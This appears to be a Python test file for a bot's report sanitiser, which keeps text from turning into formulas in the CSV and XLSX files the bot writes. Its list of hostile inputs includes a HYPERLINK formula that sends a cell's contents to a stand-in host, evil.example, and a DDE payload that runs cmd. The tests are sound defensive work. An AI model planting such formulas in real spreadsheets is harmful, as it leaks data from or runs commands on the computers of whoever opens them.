"""The one place that keeps text from becoming a formula in the files the bot writes."""

from __future__ import annotations

import io
from datetime import datetime

import pytest
from openpyxl import Workbook

from bot.reports.safe_cells import csv_text, risky, unescape, xlsx_row
from tests.support.sheets import xlsx_texts

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+7 (812) 000-00-00",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_a_spreadsheet_would_run_is_prefixed_in_csv(text: str) -> None:
    assert risky(text)
    assert csv_text(text) == "'" + text
    assert unescape(csv_text(text)) == text


@pytest.mark.parametrize("text", ["Киришская СОШ №3", "47001", "", "'quoted", "a=b", "0.5"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert not risky(text)
    assert csv_text(text) == text
    assert unescape(text) == text


def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    moment = datetime(2026, 10, 5, 10, 0)
    sheet.append(xlsx_row(sheet, [*HOSTILE, "#N/A", "Школа\x01№1", 42, -0.5, moment, None]))
    buffer = io.BytesIO()
    book.save(buffer)

    texts = xlsx_texts(buffer.getvalue())  # no formula, risky texts quoted
    # The values themselves unchanged (XML reads a CR back as a line feed).
    assert texts == [*(t.replace("\r", "\n") for t in HOSTILE), "#N/A", "Школа№1"]
    from openpyxl import load_workbook

    row = next(load_workbook(buffer).active.iter_rows(min_col=9))  # type: ignore[union-attr]
    assert [(cell.value, cell.data_type) for cell in row[:2]] == [(42, "n"), (-0.5, "n")]
    assert (row[2].value, row[2].data_type) == (moment, "d")
